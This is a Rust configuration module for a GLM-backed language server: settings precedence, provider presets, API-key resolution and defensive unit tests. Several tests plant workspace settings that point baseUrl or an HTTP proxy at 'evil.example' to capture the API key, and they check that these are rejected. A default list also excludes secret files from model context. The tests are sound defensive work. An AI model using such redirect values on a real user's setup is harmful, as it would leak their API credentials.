//! Configuration: built-in defaults, then config files, the environment, LSP
//! `initializationOptions` and `workspace/didChangeConfiguration` — later sources win.
//!
//! Every source is turned into a JSON object with the settings' camelCase keys and applied
//! key by key through the schema (`schema::SETTINGS`, the one list of settings): a bad value
//! or an unknown key is reported (naming the key and what is allowed) and skipped, so the
//! server keeps the value it had from the sources below it. A workspace `glm-lsp.toml` is
//! not the user's: `workspace.rs` holds it to each setting's rule in the schema.

use std::path::{Path, PathBuf};

use serde_json::Value;

pub mod schema;
mod workspace;

use self::schema::Normalised;
pub use self::workspace::WorkspaceLayer;
use crate::glm::provider::{GENERIC_KEY_VARIABLE, PROVIDER_KEY_VARIABLES};
pub use crate::glm::{HttpSettings, Provider};

pub const DEFAULT_BASE_URL: &str = "https://open.bigmodel.cn/api/paas/v4";
pub const DEFAULT_MODEL: &str = "glm-4.7";
pub const SECTION: &str = "glm-lsp";

/// Labels of the configuration sources, in increasing precedence.
pub const USER_FILE: &str = "user config file";
pub const WORKSPACE_FILE: &str = "workspace glm-lsp.toml";
pub const ENVIRONMENT: &str = "environment";
pub const INITIALIZATION_OPTIONS: &str = "initializationOptions";
pub const EDITOR_SETTINGS: &str = "editor settings";
pub const EDITOR_WORKSPACE_SETTINGS: &str = "editor workspace settings";

/// Where an editor that knows which of its settings are the workspace's (VS Code's
/// `.vscode/settings.json`) puts those, beside `SECTION`: a cloned repository writes them,
/// so they go through the same rules as a workspace `glm-lsp.toml`.
pub const WORKSPACE_SECTION: &str = "glm-lsp/workspace";

/// The effective configuration. `provider`, `base_url`, `max_concurrency`, `model` and
/// `api_key` are resolved from what the user set (`explicit`) and the provider's preset.
#[derive(Clone, PartialEq)]
pub struct Config {
    pub api_key: Option<String>,
    /// Where the key came from: an environment variable or "the `apiKey` setting (…)".
    pub key_source: Option<String>,
    pub provider: Provider,
    pub base_url: String,
    pub model: String,
    pub thinking: bool,
    pub temperature: Option<f64>,
    pub top_p: Option<f64>,
    pub max_tokens: Option<u32>,
    pub max_concurrency: usize,
    pub timeout_secs: u64,
    /// USD per million tokens for models missing from the built-in price table.
    pub price: Option<Price>,
    pub completion: CompletionConfig,
    pub next_edit: NextEditConfig,
    pub context: ContextConfig,
    pub actions: ActionsConfig,
    pub tests: TestsConfig,
    pub http: HttpSettings,
    /// The settings as given, before the preset fills in what is missing.
    explicit: Explicit,
}

/// What the sources set for the keys a provider preset has defaults for.
#[derive(Clone, PartialEq, Default)]
struct Explicit {
    provider: Option<Provider>,
    base_url: Option<String>,
    max_concurrency: Option<usize>,
    model: Option<String>,
    api_key: Option<String>,
    /// The source that set `api_key` last.
    api_key_source: Option<String>,
}

// The API key must never reach a log line, so `Debug` is written by hand.
impl std::fmt::Debug for Config {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Config")
            .field("api_key", &self.api_key.as_ref().map(|_| "***"))
            .field("key_source", &self.key_source)
            .field("provider", &self.provider)
            .field("base_url", &self.base_url)
            .field("model", &self.model)
            .field("thinking", &self.thinking)
            .field("temperature", &self.temperature)
            .field("top_p", &self.top_p)
            .field("max_tokens", &self.max_tokens)
            .field("max_concurrency", &self.max_concurrency)
            .field("timeout_secs", &self.timeout_secs)
            .field("price", &self.price)
            .field("completion", &self.completion)
            .field("next_edit", &self.next_edit)
            .field("context", &self.context)
            .field("actions", &self.actions)
            .field("tests", &self.tests)
            .field("http", &self.http)
            .finish()
    }
}

pub use crate::glm::Price;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Trigger {
    /// Prefetch after a pause in typing, so a suggestion is ready when the editor asks.
    Auto,
    /// Only when the user invokes completion explicitly (`triggerKind` 1).
    Manual,
}

/// How a suggestion is shown: ghost text, a completion-menu item, or both.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum CompletionStyle {
    /// Ghost text when the editor supports `textDocument/inlineCompletion`, else menu items.
    Auto,
    Inline,
    List,
    Both,
}

impl CompletionStyle {
    pub const NAMES: [&'static str; 4] = ["auto", "inline", "list", "both"];

    fn from_name(name: &str) -> CompletionStyle {
        match name {
            "inline" => CompletionStyle::Inline,
            "list" => CompletionStyle::List,
            "both" => CompletionStyle::Both,
            _ => CompletionStyle::Auto,
        }
    }

    /// Whether `textDocument/completion` answers with suggestions.
    pub fn lists(self, client_has_inline: bool) -> bool {
        match self {
            CompletionStyle::Auto => !client_has_inline,
            CompletionStyle::List | CompletionStyle::Both => true,
            CompletionStyle::Inline => false,
        }
    }

    /// Whether `textDocument/inlineCompletion` answers with suggestions.
    pub fn inlines(self, client_has_inline: bool) -> bool {
        match self {
            CompletionStyle::Auto => client_has_inline,
            CompletionStyle::Inline | CompletionStyle::Both => true,
            CompletionStyle::List => false,
        }
    }
}

#[derive(Debug, Clone, PartialEq)]
pub struct CompletionConfig {
    pub enabled: bool,
    pub trigger: Trigger,
    pub style: CompletionStyle,
    pub debounce_ms: u64,
    /// The longest a completion request is held waiting for the model; `None` holds it
    /// until the answer is ready (or a keystroke, a cancel or `timeoutSecs` ends it).
    pub max_wait_ms: Option<u64>,
    pub thinking: bool,
    /// Room for the thinking as well as the answer.
    pub max_tokens: u32,
    /// Language ids allowed to get completions; `None` means all.
    pub languages: Option<Vec<String>>,
}

/// Next-edit suggestions: the edit predicted after a pause, anywhere in the region around
/// the cursor (see `next_edit`).
#[derive(Debug, Clone, PartialEq)]
pub struct NextEditConfig {
    pub enabled: bool,
    /// The pause in typing before the model is asked.
    pub debounce_ms: u64,
    /// Lines above and below the cursor's line that the model may rewrite.
    pub region_lines: u32,
    pub thinking: bool,
    /// The recent edits shown to the model, newest last.
    pub max_history_edits: u32,
}

#[derive(Debug, Clone, PartialEq)]
pub struct ContextConfig {
    pub budget_tokens: usize,
    pub exclude: Vec<String>,
    /// Workspace files larger than this are not indexed.
    pub max_file_bytes: u64,
}

#[derive(Debug, Clone, PartialEq)]
pub struct ActionsConfig {
    /// Fill the edit in `codeAction/resolve` instead of running a command.
    pub resolve: bool,
    /// Ask editors that can preview to confirm AI edits first.
    pub confirm: bool,
    pub max_tokens: u32,
    pub custom: Vec<CustomAction>,
}

/// Unit-test generation. `verify` and `command` run programs, so only the user's own
/// configuration may set them (they are `user_only` in the schema).
#[derive(Debug, Clone, PartialEq)]
pub struct TestsConfig {
    /// Run the generated tests and keep only those that pass.
    pub verify: bool,
    pub timeout_secs: u64,
    /// How often failing tests go back to the model with the runner's output.
    pub repair_rounds: u32,
    /// Replaces the default test command; `{file}` and `{names}` are filled in.
    pub command: Option<String>,
    /// Environment variables (names or globs) test runs never see, beside the key variables.
    pub hide_env: Vec<String>,
    /// Runs a passing test must pass (counting the first) to be kept; 1 keeps after one pass.
    pub reliability_runs: u32,
    /// Keep only tests that add covered lines of the file under test (when the tool is installed).
    pub coverage: bool,
}

#[derive(Debug, Clone, PartialEq)]
pub struct CustomAction {
    pub title: String,
    pub kind: String,
    /// The instruction, with `{code}` and `{language}` placeholders.
    pub prompt: String,
}

pub const DEFAULT_EXCLUDE: [&str; 7] = [".env", ".env.*", "*.pem", "*.key", "id_rsa*", "*.p12", "secrets.*"];

impl Default for Config {
    fn default() -> Config {
        Config {
            api_key: None,
            key_source: None,
            provider: Provider::Bigmodel,
            base_url: DEFAULT_BASE_URL.to_string(),
            model: DEFAULT_MODEL.to_string(),
            thinking: true,
            temperature: None,
            top_p: None,
            max_tokens: None,
            max_concurrency: 5,
            timeout_secs: 300,
            price: None,
            completion: CompletionConfig {
                enabled: true,
                trigger: Trigger::Auto,
                style: CompletionStyle::Auto,
                debounce_ms: 150,
                max_wait_ms: None,
                thinking: true,
                max_tokens: 8192,
                languages: None,
            },
            next_edit: NextEditConfig {
                enabled: true,
                debounce_ms: 300,
                region_lines: 12,
                thinking: true,
                max_history_edits: 8,
            },
            context: ContextConfig {
                budget_tokens: 6000,
                exclude: DEFAULT_EXCLUDE.iter().map(|glob| glob.to_string()).collect(),
                max_file_bytes: crate::context::DEFAULT_MAX_FILE_BYTES,
            },
            actions: ActionsConfig { resolve: false, confirm: false, max_tokens: 32768, custom: Vec::new() },
            tests: TestsConfig {
                verify: false,
                timeout_secs: 300,
                repair_rounds: 1,
                command: None,
                hide_env: Vec::new(),
                reliability_runs: 3,
                coverage: false,
            },
            http: HttpSettings::default(),
            explicit: Explicit::default(),
        }
    }
}

impl Config {
    /// What the model client needs from the configuration.
    pub fn glm_settings(&self) -> crate::glm::GlmSettings {
        crate::glm::GlmSettings {
            api_key: self.api_key.clone().map(crate::glm::ApiKey::new),
            key_source: self.key_source.clone(),
            provider: self.provider,
            base_url: self.base_url.clone(),
            model: self.model.clone(),
            thinking: self.thinking,
            temperature: self.temperature,
            top_p: self.top_p,
            max_tokens: self.max_tokens,
            max_concurrency: self.max_concurrency,
            timeout: std::time::Duration::from_secs(self.timeout_secs),
            connect_timeout: std::time::Duration::from_secs(8),
            price: self.price,
            http: self.http.clone(),
        }
    }

    /// Fills `provider`, `base_url`, `max_concurrency`, `model` and `api_key` from what the
    /// sources set and the preset. `key_variables` are the key variables set in the
    /// environment, `(name, value)`; a key from them sits between the user config file and
    /// the LSP sources, like the rest of the environment.
    fn resolve_endpoint(&mut self, key_variables: &[(String, String)], errors: &mut Vec<ConfigError>) {
        let explicit = &self.explicit;
        let variable = |name: &str| {
            key_variables.iter().find(|(variable, value)| variable == name && !value.is_empty()).map(|(_, v)| v)
        };
        let key_above_environment = explicit
            .api_key_source
            .as_deref()
            .is_some_and(|source| matches!(source, INITIALIZATION_OPTIONS | EDITOR_SETTINGS));
        // No provider chosen: the base URL says which one it is, else the only key variable set.
        let mut provider = match (explicit.provider, &explicit.base_url) {
            (Some(provider), _) => provider,
            (None, Some(url)) => Provider::for_base_url(url),
            (None, None) if key_above_environment || variable(GENERIC_KEY_VARIABLE).is_some() => Provider::Bigmodel,
            (None, None) => PROVIDER_KEY_VARIABLES
                .iter()
                .find(|name| variable(name).is_some())
                .and_then(|name| Provider::for_key_variable(name))
                .unwrap_or_default(),
        };
        let base_url = match (&explicit.base_url, provider.base_url()) {
            (Some(url), _) => url.clone(),
            (None, Some(url)) => url.to_string(),
            (None, None) => {
                errors.push(ConfigError {
                    source: "configuration".into(),
                    key: "provider".into(),
                    message: "`custom` needs `baseUrl` (the endpoint's URL before /chat/completions); \
                              using the bigmodel preset"
                        .into(),
                });
                provider = Provider::Bigmodel;
                DEFAULT_BASE_URL.to_string()
            }
        };
        let from_variable = || {
            provider
                .key_variables()
                .into_iter()
                .find_map(|name| variable(name).map(|value| (value.clone(), name.to_string())))
        };
        let from_setting = || {
            explicit.api_key.clone().map(|key| {
                let source = explicit.api_key_source.as_deref().unwrap_or("configuration");
                (key, format!("the `apiKey` setting ({source})"))
            })
        };
        let key = if key_above_environment {
            from_setting().or_else(from_variable)
        } else {
            from_variable().or_else(from_setting)
        };
        self.max_concurrency = explicit.max_concurrency.unwrap_or(provider.max_concurrency());
        self.model = explicit.model.clone().unwrap_or_else(|| provider.default_model().to_string());
        self.provider = provider;
        self.base_url = base_url;
        (self.api_key, self.key_source) = match key {
            Some((key, source)) => (Some(key), Some(source)),
            None => (None, None),
        };
    }
}

/// A setting that could not be applied; the message names the key and what is allowed.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ConfigError {
    pub source: String,
    pub key: String,
    pub message: String,
}

impl std::fmt::Display for ConfigError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "glm-lsp: setting `{}` from {}: {}", self.key, self.source, self.message)
    }
}

/// Where settings came from, in increasing precedence.
#[derive(Clone, Default)]
pub struct Sources {
    pub user_file: Option<(PathBuf, Value)>,
    /// Already without what a workspace may not set (`WorkspaceLayer` is built only so).
    pub workspace_file: Option<(PathBuf, WorkspaceLayer)>,
    pub environment: Value,
    pub initialization_options: Value,
    pub client_settings: Value,
    /// The API key variables set in the environment, `(name, value)`: which one is used
    /// depends on the provider, so they are resolved last.
    pub key_variables: Vec<(String, String)>,
}

// Keys from the environment must never reach a log line either.
impl std::fmt::Debug for Sources {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Sources")
            .field("user_file", &self.user_file.as_ref().map(|(path, _)| path))
            .field("workspace_file", &self.workspace_file.as_ref().map(|(path, _)| path))
            .field("key_variables", &self.key_variables.iter().map(|(name, _)| name).collect::<Vec<_>>())
            .finish_non_exhaustive()
    }
}

/// The environment variables that hold API keys.
pub const KEY_VARIABLES: [&str; 5] =
    [GENERIC_KEY_VARIABLE, "ZHIPUAI_API_KEY", "ZAI_API_KEY", "RUNAPI_KEY", "COMETAPI_KEY"];

impl Sources {
    /// Reads the config files and the environment; the LSP sources are filled in later.
    pub fn load(workspace_root: Option<&Path>, env: &dyn Fn(&str) -> Option<String>) -> (Sources, Vec<ConfigError>) {
        let mut errors = Vec::new();
        let mut sources = Sources::default();
        let user_dir = env("XDG_CONFIG_HOME")
            .map(PathBuf::from)
            .or_else(|| env("HOME").map(|home| PathBuf::from(home).join(".config")));
        if let Some(path) = user_dir.map(|dir| dir.join("glm-lsp").join("config.toml")) {
            sources.user_file = read_toml(&path, &mut errors).map(|value| (path, value));
        }
        if let Some(path) = workspace_root.map(|root| root.join("glm-lsp.toml")) {
            if let Some(value) = read_toml(&path, &mut errors) {
                let (layer, ignored) = WorkspaceLayer::new(&value, &path.display().to_string());
                errors.extend(ignored);
                sources.workspace_file = Some((path, layer));
            }
        }
        let mut environment = serde_json::Map::new();
        sources.key_variables = KEY_VARIABLES
            .iter()
            .filter_map(|name| {
                let value = env(name)?.trim().to_string();
                (!value.is_empty()).then(|| (name.to_string(), value))
            })
            .collect();
        if let Some(provider) = env("GLM_PROVIDER").filter(|value| !value.is_empty()) {
            environment.insert("provider".into(), Value::String(provider));
        }
        if let Some(url) = env("GLM_BASE_URL").filter(|value| !value.is_empty()) {
            environment.insert("baseUrl".into(), Value::String(url));
        }
        if let Some(model) = env("GLM_MODEL").filter(|value| !value.is_empty()) {
            environment.insert("model".into(), Value::String(model));
        }
        sources.environment = Value::Object(environment);
        (sources, errors)
    }

    /// Builds the effective configuration; bad values are reported and skipped. The workspace
    /// file's tighten-only settings are held to what the user's own sources give, so that
    /// configuration is built first.
    pub fn resolve(&self) -> (Config, Vec<ConfigError>) {
        let (editor_workspace, mut ignored) = self.editor_workspace_layer();
        if self.workspace_file.is_none() && editor_workspace.is_none() {
            let (config, mut errors) = self.resolve_layers(&WorkspacePlaces::default());
            errors.extend(ignored);
            return (config, errors);
        }
        let (users_own, _) = self.resolve_layers(&WorkspacePlaces::default());
        let mut places = WorkspacePlaces::default();
        let mut warnings = Vec::new();
        if let Some((path, workspace)) = &self.workspace_file {
            let tightened = workspace.against(&users_own, &path.display().to_string());
            places.file = tightened.layer;
            places.additions.settings.extend(tightened.additions.settings);
            warnings.extend(tightened.warnings);
        }
        if let Some(workspace) = editor_workspace {
            let tightened = workspace.against(&users_own, EDITOR_WORKSPACE_SETTINGS);
            places.editor = tightened.layer;
            places.additions.settings.extend(tightened.additions.settings);
            warnings.extend(tightened.warnings);
        }
        let (config, mut errors) = self.resolve_layers(&places);
        errors.append(&mut ignored);
        errors.extend(warnings);
        (config, errors)
    }

    /// The editor's workspace-scoped settings (`WORKSPACE_SECTION`), the last sent: the
    /// settings pushed or pulled since start, else the initialization options.
    fn editor_workspace_layer(&self) -> (Option<WorkspaceLayer>, Vec<ConfigError>) {
        let sent = [&self.client_settings, &self.initialization_options]
            .into_iter()
            .find(|settings| settings.as_object().is_some_and(|object| !object.is_empty()));
        match sent.and_then(|settings| settings.get(WORKSPACE_SECTION)) {
            Some(layer) => {
                let (layer, ignored) = WorkspaceLayer::new(layer, EDITOR_WORKSPACE_SETTINGS);
                (Some(layer), ignored)
            }
            None => (None, Vec::new()),
        }
    }

    /// The layers in order, each workspace layer in its place; `additions` (the workspace's
    /// entries added to the user's lists) go on top of every layer, so no later source drops
    /// them.
    fn resolve_layers(&self, workspace: &WorkspacePlaces) -> (Config, Vec<ConfigError>) {
        let mut config = Config::default();
        let mut errors = Vec::new();
        if let Some((_, user_file)) = &self.user_file {
            config.apply(USER_FILE, section_of(user_file), &mut errors);
        }
        config.apply_normalised(WORKSPACE_FILE, &workspace.file, &mut errors);
        for (source, layer) in [
            (ENVIRONMENT, &self.environment),
            (INITIALIZATION_OPTIONS, &self.initialization_options),
            (EDITOR_SETTINGS, &self.client_settings),
        ] {
            config.apply(source, section_of(layer), &mut errors);
        }
        // Above the editor's user settings, as the editor itself ranks them.
        config.apply_normalised(EDITOR_WORKSPACE_SETTINGS, &workspace.editor, &mut errors);
        config.apply_normalised(WORKSPACE_FILE, &workspace.additions, &mut errors);
        config.resolve_endpoint(&self.key_variables, &mut errors);
        (config, errors)
    }
}

/// The workspace's layers, already held to the user's own configuration.
#[derive(Default)]
struct WorkspacePlaces {
    /// The `glm-lsp.toml` of the workspace, above the user config file.
    file: Normalised,
    /// The editor's workspace settings, above the editor's user settings.
    editor: Normalised,
    /// Entries the workspace added to the user's lists, over every source.
    additions: Normalised,
}

/// Editors send either `{"glm-lsp": {...}}` or the section itself.
pub fn section_of(value: &Value) -> &Value {
    value.get(SECTION).unwrap_or(value)
}

fn read_toml(path: &Path, errors: &mut Vec<ConfigError>) -> Option<Value> {
    let text = std::fs::read_to_string(path).ok()?;
    match toml::from_str::<toml::Value>(&text) {
        Ok(value) => serde_json::to_value(value).ok(),
        Err(error) => {
            errors.push(ConfigError {
                source: path.display().to_string(),
                key: "(file)".into(),
                message: format!("not valid TOML: {}", error.message()),
            });
            None
        }
    }
}

impl Config {
    /// Applies one source's object onto `self`, setting by setting, through the schema: a
    /// bad value or an unknown key is reported and skipped.
    pub fn apply(&mut self, source: &str, layer: &Value, errors: &mut Vec<ConfigError>) {
        self.apply_normalised(source, &schema::normalise(layer), errors);
    }

    fn apply_normalised(&mut self, source: &str, layer: &Normalised, errors: &mut Vec<ConfigError>) {
        let mut fail = |key: &str, message: String| {
            errors.push(ConfigError { source: source.to_string(), key: key.to_string(), message });
        };
        for (key, message) in &layer.problems {
            fail(key, message.clone());
        }
        for (setting, value) in &layer.settings {
            match setting.kind.accept(self, value) {
                // The key's source decides its precedence over the key variables.
                Ok(()) if setting.key == "apiKey" => self.explicit.api_key_source = Some(source.to_string()),
                Ok(()) => {}
                Err(message) => fail(setting.key, message),
            }
        }
        // Keep the resolved fields current for callers that apply one layer by hand; the
        // sources resolve again with the key variables.
        self.resolve_endpoint(&[], &mut Vec::new());
    }
}

/// Neovim encodes an empty Lua table `{}` as `[]`: as settings, it means no settings.
fn is_empty_lua_table(value: &Value) -> bool {
    value.as_array().is_some_and(Vec::is_empty)
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn later_sources_win_and_bad_values_are_skipped_with_a_named_error() {
        let sources = Sources {
            environment: json!({"apiKey": "env-key", "model": "glm-4.6"}),
            initialization_options: json!({"model": "glm-5-turbo", "maxConcurrency": 0}),
            client_settings: json!({"glm-lsp": {"completion": {"debounceMs": 50, "trigger": "sometimes"}}}),
            ..Sources::default()
        };
        let (config, errors) = sources.resolve();
        assert_eq!(config.api_key.as_deref(), Some("env-key"));
        assert_eq!(config.model, "glm-5-turbo");
        assert_eq!(config.max_concurrency, 5);
        assert_eq!(config.completion.debounce_ms, 50);
        assert_eq!(config.completion.trigger, Trigger::Auto);
        let keys: Vec<&str> = errors.iter().map(|e| e.key.as_str()).collect();
        assert_eq!(keys, ["maxConcurrency", "completion.trigger"]);
        assert!(errors[0].to_string().contains("from 1 to 64"));
    }

    #[test]
    fn workspace_file_cannot_redirect_the_key() {
        let root = std::env::temp_dir().join(format!("glm-lsp-config-{}", std::process::id()));
        std::fs::create_dir_all(&root).unwrap();
        std::fs::write(root.join("glm-lsp.toml"), "baseUrl = \"https://evil.example\"\ntemperature = 0.5\n").unwrap();
        let (sources, errors) = Sources::load(Some(&root), &|_| None);
        let (config, _) = sources.resolve();
        assert_eq!(config.base_url, DEFAULT_BASE_URL);
        assert_eq!(config.temperature, Some(0.5));
        assert_eq!(errors.len(), 1);
        std::fs::remove_dir_all(&root).unwrap();
    }

    /// VS Code's `.vscode/settings.json` comes from the repository, like `glm-lsp.toml`: the
    /// extension sends it beside the user's settings and it obeys the same rules.
    #[test]
    fn editor_workspace_settings_obey_the_workspace_rules() {
        let user_only = Sources::default().resolve().0;
        let sources = Sources {
            client_settings: json!({
                "glm-lsp": { "completion": { "maxTokens": 2000 }, "temperature": 0.1 },
                "glm-lsp/workspace": {
                    "baseUrl": "https://evil.example",
                    "completion": { "maxTokens": 50000, "debounceMs": 300 },
                    "context": { "exclude": ["generated/**"] },
                    "temperature": 0.7,
                },
            }),
            ..Sources::default()
        };
        let (config, errors) = sources.resolve();
        assert_eq!(config.base_url, DEFAULT_BASE_URL);
        assert_eq!(config.completion.max_tokens, 2000, "not raised above the user's own");
        assert_eq!(config.completion.debounce_ms, 300, "a tighter value is taken");
        assert_eq!(config.temperature, Some(0.7), "a workspace setting wins over the user's, as in the editor");
        assert!(config.context.exclude.contains(&"generated/**".to_string()));
        for default in &user_only.context.exclude {
            assert!(config.context.exclude.contains(default), "{default} kept");
        }
        let named: Vec<(&str, &str)> = errors.iter().map(|e| (e.source.as_str(), e.key.as_str())).collect();
        assert_eq!(
            named,
            [(EDITOR_WORKSPACE_SETTINGS, "baseUrl"), (EDITOR_WORKSPACE_SETTINGS, "completion.maxTokens")]
        );

        // An empty list cannot drop the default exclusions either.
        let sources = Sources {
            initialization_options: json!({ "glm-lsp": {}, "glm-lsp/workspace": { "context": { "exclude": [] } } }),
            ..Sources::default()
        };
        assert_eq!(sources.resolve().0.context.exclude, user_only.context.exclude);
    }

    fn variables(pairs: &[(&str, &str)]) -> Vec<(String, String)> {
        pairs.iter().map(|(name, value)| (name.to_string(), value.to_string())).collect()
    }

    #[test]
    fn each_preset_sets_url_concurrency_and_key_variable() {
        let all_keys = variables(&[
            ("ZHIPUAI_API_KEY", "key-zhipu"),
            ("ZAI_API_KEY", "key-zai"),
            ("RUNAPI_KEY", "key-runapi"),
            ("COMETAPI_KEY", "key-comet"),
        ]);
        let expected = [
            ("bigmodel", "https://open.bigmodel.cn/api/paas/v4", 5, "ZHIPUAI_API_KEY", "key-zhipu"),
            ("bigmodel-coding", "https://open.bigmodel.cn/api/coding/paas/v4", 1, "ZHIPUAI_API_KEY", "key-zhipu"),
            ("zai", "https://api.z.ai/api/paas/v4", 5, "ZAI_API_KEY", "key-zai"),
            ("zai-coding", "https://api.z.ai/api/coding/paas/v4", 1, "ZAI_API_KEY", "key-zai"),
            ("runapi", "https://runapi.ai/v1", 5, "RUNAPI_KEY", "key-runapi"),
            ("cometapi", "https://api.cometapi.com/v1", 5, "COMETAPI_KEY", "key-comet"),
        ];
        for (id, url, concurrency, variable, key) in expected {
            let sources = Sources {
                client_settings: json!({ "provider": id }),
                key_variables: all_keys.clone(),
                ..Sources::default()
            };
            let (config, errors) = sources.resolve();
            assert!(errors.is_empty(), "{id}: {errors:?}");
            assert_eq!(config.provider.id(), id);
            assert_eq!(config.base_url, url, "{id}");
            assert_eq!(config.max_concurrency, concurrency, "{id}");
            assert_eq!(config.api_key.as_deref(), Some(key), "{id}");
            assert_eq!(config.key_source.as_deref(), Some(variable), "{id}");
            assert_eq!(config.glm_settings().provider, config.provider);
        }
    }

    #[test]
    fn key_precedence() {
        let resolve = |sources: Sources| sources.resolve().0;
        // GLM_API_KEY, this program's own variable, comes before the provider's.
        let config = resolve(Sources {
            client_settings: json!({ "provider": "zai" }),
            key_variables: variables(&[("GLM_API_KEY", "generic"), ("ZAI_API_KEY", "zai")]),
            ..Sources::default()
        });
        assert_eq!((config.api_key.as_deref(), config.key_source.as_deref()), (Some("generic"), Some("GLM_API_KEY")));
        // Another provider's variable is never sent to this one.
        let config = resolve(Sources {
            client_settings: json!({ "provider": "zai" }),
            key_variables: variables(&[("ZHIPUAI_API_KEY", "zhipu")]),
            ..Sources::default()
        });
        assert_eq!(config.api_key, None);
        let config = resolve(Sources {
            client_settings: json!({ "provider": "custom", "baseUrl": "http://127.0.0.1:8080/v1" }),
            key_variables: variables(&[("ZAI_API_KEY", "zai")]),
            ..Sources::default()
        });
        assert_eq!(config.api_key, None, "a custom endpoint reads GLM_API_KEY only");
        // Editor settings beat the environment; the environment beats the user config file.
        let config = resolve(Sources {
            client_settings: json!({ "apiKey": "from-editor" }),
            key_variables: variables(&[("GLM_API_KEY", "from-env")]),
            ..Sources::default()
        });
        assert_eq!(config.api_key.as_deref(), Some("from-editor"));
        assert_eq!(config.key_source.as_deref(), Some("the `apiKey` setting (editor settings)"));
        let config = resolve(Sources {
            user_file: Some(("config.toml".into(), json!({ "apiKey": "from-file" }))),
            key_variables: variables(&[("GLM_API_KEY", "from-env")]),
            ..Sources::default()
        });
        assert_eq!(config.api_key.as_deref(), Some("from-env"));
        let config = resolve(Sources {
            user_file: Some(("config.toml".into(), json!({ "apiKey": "from-file" }))),
            ..Sources::default()
        });
        assert_eq!(config.api_key.as_deref(), Some("from-file"));
        assert_eq!(config.key_source.as_deref(), Some("the `apiKey` setting (user config file)"));
    }

    #[test]
    fn without_a_provider_the_url_or_the_only_key_variable_says_which() {
        let resolve = |sources: Sources| sources.resolve().0;
        let config = resolve(Sources { key_variables: variables(&[("ZAI_API_KEY", "z")]), ..Sources::default() });
        assert_eq!((config.provider, config.api_key.as_deref()), (Provider::Zai, Some("z")));
        let config = resolve(Sources {
            key_variables: variables(&[("GLM_API_KEY", "g"), ("ZAI_API_KEY", "z")]),
            ..Sources::default()
        });
        assert_eq!((config.provider, config.api_key.as_deref()), (Provider::Bigmodel, Some("g")));
        let config = resolve(Sources {
            environment: json!({ "baseUrl": "https://api.z.ai/api/coding/paas/v4/" }),
            key_variables: variables(&[("ZAI_API_KEY", "z")]),
            ..Sources::default()
        });
        assert_eq!((config.provider, config.max_concurrency), (Provider::ZaiCoding, 1));
        assert_eq!(config.api_key.as_deref(), Some("z"));
        let config = resolve(Sources::default());
        assert_eq!(
            (config.provider, config.base_url.as_str(), config.model.as_str()),
            (Provider::Bigmodel, DEFAULT_BASE_URL, "glm-4.7")
        );
    }

    #[test]
    fn explicit_settings_override_the_preset() {
        let (config, errors) = Sources {
            client_settings: json!({ "provider": "zai-coding", "baseUrl": "http://127.0.0.1:9/v4", "maxConcurrency": 3 }),
            ..Sources::default()
        }
        .resolve();
        assert!(errors.is_empty());
        assert_eq!(
            (config.provider, config.base_url.as_str(), config.max_concurrency),
            (Provider::ZaiCoding, "http://127.0.0.1:9/v4", 3)
        );
        let (config, errors) =
            Sources { client_settings: json!({ "provider": "custom" }), ..Sources::default() }.resolve();
        assert_eq!(errors.len(), 1);
        assert!(errors[0].message.contains("baseUrl"), "{}", errors[0]);
        assert_eq!(config.base_url, DEFAULT_BASE_URL);
        let (config, errors) =
            Sources { client_settings: json!({ "provider": "openai" }), ..Sources::default() }.resolve();
        assert_eq!(config.provider, Provider::Bigmodel);
        assert!(errors[0].to_string().contains("zai-coding"), "{}", errors[0]);
        let (config, _) =
            Sources { client_settings: json!({ "provider": "cometapi" }), ..Sources::default() }.resolve();
        assert_eq!(config.model, "glm-4.5");
    }

    #[test]
    fn workspace_file_cannot_pick_the_provider_or_the_network() {
        let root = std::env::temp_dir().join(format!("glm-lsp-config-provider-{}", std::process::id()));
        std::fs::create_dir_all(&root).unwrap();
        std::fs::write(
            root.join("glm-lsp.toml"),
            "provider = \"runapi\"\nmodel = \"glm-4.6\"\ntopP = 0.5\n[http]\nproxy = \"http://evil.example:3128\"\n",
        )
        .unwrap();
        let (sources, errors) = Sources::load(Some(&root), &|name| (name == "GLM_API_KEY").then(|| "k".to_string()));
        let (config, _) = sources.resolve();
        assert_eq!(config.provider, Provider::Bigmodel);
        assert_eq!(config.http.proxy, None);
        assert_eq!((config.model.as_str(), config.top_p), ("glm-4.7", Some(0.5)));
        let keys: Vec<&str> = errors.iter().map(|error| error.key.as_str()).collect();
        assert_eq!(keys, ["provider", "model", "http.proxy"]);
        std::fs::remove_dir_all(&root).unwrap();
    }

    #[test]
    fn http_settings_are_validated() {
        let mut config = Config::default();
        let mut errors = Vec::new();
        config.apply("test", &json!({ "http": { "proxy": "http://user:pw@proxy.corp:3128" } }), &mut errors);
        assert_eq!(config.http.proxy.as_deref(), Some("http://user:pw@proxy.corp:3128"));
        assert!(!format!("{config:?}").contains("pw@"), "the proxy password stays out of Debug");
        config.apply("test", &json!({ "http": { "proxy": "not a url", "caFile": "relative/ca.pem" } }), &mut errors);
        config.apply("test", &json!({ "http": { "caFile": "/nonexistent/ca.pem" } }), &mut errors);
        let mut keys: Vec<&str> = errors.iter().map(|error| error.key.as_str()).collect();
        keys.sort_unstable();
        assert_eq!(keys, ["http.caFile", "http.caFile", "http.proxy"]);
        assert_eq!(config.http.proxy.as_deref(), Some("http://user:pw@proxy.corp:3128"), "kept the last good value");
        let path = std::env::temp_dir().join(format!("glm-lsp-ca-{}.pem", std::process::id()));
        std::fs::write(&path, "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n").unwrap();
        config.apply("test", &json!({ "http": { "caFile": path.to_str().unwrap(), "proxy": "" } }), &mut errors);
        assert_eq!(config.http.ca_file.as_deref(), Some(path.as_path()));
        assert_eq!(config.http.proxy, None);
        std::fs::remove_file(path).ok();
    }

    #[test]
    fn workspace_file_cannot_make_the_server_run_a_command() {
        let root = std::env::temp_dir().join(format!("glm-lsp-config-tests-{}", std::process::id()));
        std::fs::create_dir_all(&root).unwrap();
        std::fs::write(
            root.join("glm-lsp.toml"),
